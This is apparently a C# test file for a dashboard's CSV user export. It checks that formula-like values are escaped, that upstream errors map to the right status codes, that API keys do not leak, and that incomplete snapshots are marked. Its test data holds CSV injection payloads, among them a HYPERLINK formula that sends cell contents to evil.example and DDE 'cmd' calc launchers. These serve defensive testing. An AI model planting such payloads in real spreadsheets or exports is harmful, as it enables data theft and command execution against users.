using System.Net;
using Dashboard.Web.Tests.Support;

namespace Dashboard.Web.Tests.Api;

/// <summary><c>/api/users.csv</c> in live mode against a stub upstream: hostile values, and upstream trouble.</summary>
public sealed class TeamCsvUpstreamTests
{
    private const string UserId = "7aec8422-8174-4464-a4b2-b04c5939be0d";

    private static CancellationToken Ct => TestContext.Current.CancellationToken;

    public static TheoryData<string> FormulaValues() =>
    [
        "=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"Click\")",
        "+SUM(1,2)",
        "-2+3+cmd|' /C calc'!A0",
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "\t=1+1",
        "\r=1+1",
    ];

    [Theory]
    [MemberData(nameof(FormulaValues))]
    public async Task TeamCsv_UpstreamValueThatLooksLikeAFormula_IsEscapedForSpreadsheets(string formula)
    {
        var pull = UpstreamJson.Pull("failure");
        pull["release"] = formula;
        pull["error_details"] = formula;
        pull["trace_id"] = formula;
        var team = UpstreamJson.Page(UpstreamJson.User(UserId, [new("oura", UpstreamJson.Provider([new(formula, pull)], formula))]));
        var upstream = new StubUpstream(request => StubUpstream.Team(request, team));
        await using var factory = new DashboardFactory(LiveDashboard.Settings(), upstream);
        using var client = factory.CreateClient();

        var text = await client.GetStringAsync("/api/users.csv", Ct);

        var rows = Csv.Parse(text).Skip(1).ToList();
        Assert.Equal(2, rows.Count);
        Assert.All(rows.SelectMany(r => r), field => Assert.DoesNotMatch(@"^[=+\-@\t\r]", field));
        var pulled = rows.Single(r => r[3] == "failure");
        Assert.Equal(["'" + formula, "'" + formula, "'" + formula, "'" + formula], new[] { pulled[2], pulled[4], pulled[12], pulled[13] });
        var notPulled = rows.Single(r => r[3] == "");
        Assert.Equal("'" + formula, notPulled[2]);
    }

    [Fact]
    public async Task TeamCsv_UpstreamValueWithCommasQuotesAndLineBreaks_RoundTripsAsOneField()
    {
        const string awkward = "a,b \"quoted\"\r\nnext line; ünïcödé";
        var pull = UpstreamJson.Pull("retrying");
        pull["release"] = awkward;
        pull["error_details"] = awkward;
        var team = UpstreamJson.OnePull(UserId, "oura", "sleep", pull);
        var upstream = new StubUpstream(request => StubUpstream.Team(request, team));
        await using var factory = new DashboardFactory(LiveDashboard.Settings(), upstream);
        using var client = factory.CreateClient();

        var text = await client.GetStringAsync("/api/users.csv", Ct);

        var row = Assert.Single(Csv.Parse(text).Skip(1));
        Assert.Equal(TeamCsvExpectation.Header.Length, row.Length);
        Assert.Equal((UserId, "oura", "sleep", "retrying", awkward, awkward, "51cc7d2d9e3f4a5b8c7d6e5f4a3b2c1d", "pull_retrying"), (row[0], row[1], row[2], row[3], row[4], row[12], row[13], row[14]));
        Assert.Equal(("2026-01-01T00:00:00Z", "2026-04-01T00:00:00Z", "80", "0.889"), (row[5], row[6], row[7], row[8]));
    }

    public static TheoryData<string, HttpStatusCode> Trouble() => new()
    {
        { "401", HttpStatusCode.BadGateway },
        { "403", HttpStatusCode.BadGateway },
        { "503", HttpStatusCode.ServiceUnavailable },
        { "429", HttpStatusCode.ServiceUnavailable },
        { "timeout", HttpStatusCode.GatewayTimeout },
        { "html", HttpStatusCode.BadGateway },
        { "truncated", HttpStatusCode.BadGateway },
    };

    [Theory]
    [MemberData(nameof(Trouble))]
    public async Task TeamCsv_UpstreamTroubleBeforeAnyUser_IsMappedLikeTheDiagnosis(string trouble, HttpStatusCode expected)
    {
        var upstream = new StubUpstream(trouble switch
        {
            "timeout" => StubUpstream.NeverAnswers,
            _ => (_, _) => Task.FromResult(trouble switch
            {
                "401" => StubUpstream.Respond(HttpStatusCode.Unauthorized, $$"""{"detail":"bad key {{LiveDashboard.ApiKey}}"}"""),
                "403" => StubUpstream.Respond(HttpStatusCode.Forbidden, """{"detail":"Forbidden"}"""),
                "503" => StubUpstream.Respond(HttpStatusCode.ServiceUnavailable, """{"detail":"Service temporarily unavailable"}"""),
                "429" => StubUpstream.Respond(HttpStatusCode.TooManyRequests, """{"detail":"Too Many Requests"}"""),
                "html" => StubUpstream.Respond(HttpStatusCode.OK, "<html><body><h1>Sign in</h1></body></html>", "text/html"),
                _ => StubUpstream.Respond(HttpStatusCode.OK, "{\"data\":[{\"user_id\":\"7aec"),
            }),
        });
        await using var factory = new DashboardFactory(LiveDashboard.Settings(), upstream);
        using var client = factory.CreateClient();

        using var response = await client.GetAsync("/api/users.csv", Ct);

        var problem = await ApiAssert.ProblemAsync(response, expected);
        if (trouble is "401" or "403")
        {
            Assert.Equal("Vital rejected the dashboard's API key; ask an administrator to check Vital:ApiKey.", problem.GetProperty("detail").GetString());
        }

        await ApiAssert.NowhereAsync(LiveDashboard.ApiKey, response);
    }

    /// <summary>
    /// Issue 16 replaced the refusal this test once asserted (503 rather than a file missing users): a page that still
    /// fails past <c>Vital:ScanPatience</c> (0 here, from <see cref="LiveDashboard.Settings"/>) gives an incomplete
    /// snapshot, served with what was read and marked in the file's name and a header.
    /// </summary>
    [Fact]
    public async Task TeamCsv_UpstreamFailsAfterTheFirstPagePastPatience_IsAFileMarkedIncomplete()
    {
        var firstPage = System.Text.Json.Nodes.JsonNode.Parse(UpstreamJson.OnePull(UserId, "oura", "sleep", UpstreamJson.Pull()))!.AsObject();
        firstPage["next_cursor"] = "page-2";
        var team = firstPage.ToJsonString();
        var upstream = new StubUpstream(request => request.RequestUri!.Query.Contains("next_cursor=page-2", StringComparison.Ordinal)
            ? StubUpstream.Respond(HttpStatusCode.ServiceUnavailable, """{"detail":"Service temporarily unavailable"}""")
            : request.RequestUri!.Query.Contains("provider=", StringComparison.Ordinal) && !request.RequestUri!.Query.Contains("provider=oura", StringComparison.Ordinal)
                ? StubUpstream.Respond(HttpStatusCode.OK, UpstreamJson.Page())
                : StubUpstream.Team(request, team));
        await using var factory = new DashboardFactory(LiveDashboard.Settings(), upstream);
        using var client = factory.CreateClient();

        using var response = await client.GetAsync("/api/users.csv", Ct);

        Assert.Equal(HttpStatusCode.OK, response.StatusCode);
        Assert.EndsWith("-incomplete.csv", response.Content.Headers.ContentDisposition?.FileNameStar ?? response.Content.Headers.ContentDisposition?.FileName, StringComparison.Ordinal);
        Assert.Equal("incomplete", Assert.Single(response.Headers.GetValues(Dashboard.Web.Api.DashboardApi.TeamSnapshotHeader)));
        var rows = Csv.Parse(await response.Content.ReadAsStringAsync(Ct)).Skip(1).ToList();
        Assert.Equal(UserId, Assert.Single(rows)[0]);
    }

    [Fact]
    public async Task TeamCsv_UpstreamHasNoUsers_IsTheHeaderOnly()
    {
        var upstream = new StubUpstream(_ => StubUpstream.Respond(HttpStatusCode.OK, UpstreamJson.Page()));
        await using var factory = new DashboardFactory(LiveDashboard.Settings(), upstream);
        using var client = factory.CreateClient();

        using var response = await client.GetAsync("/api/users.csv", Ct);

        Assert.Equal(HttpStatusCode.OK, response.StatusCode);
        Assert.Equal([TeamCsvExpectation.Header], Csv.Parse(await response.Content.ReadAsStringAsync(Ct)));
    }

    [Fact]
    public async Task TeamCsv_UnknownStatusFromUpstream_IsExportedVerbatim()
    {
        var team = UpstreamJson.OnePull(UserId, "oura", "sleep", UpstreamJson.Pull("paused_by_vital"));
        var upstream = new StubUpstream(request => StubUpstream.Team(request, team));
        await using var factory = new DashboardFactory(LiveDashboard.Settings(), upstream);
        using var client = factory.CreateClient();

        var text = await client.GetStringAsync("/api/users.csv?status=paused_by_vital", Ct);

        var row = Assert.Single(Csv.Parse(text).Skip(1));
        Assert.Equal(("paused_by_vital", "unknown_status"), (row[3], row[14]));
    }

}
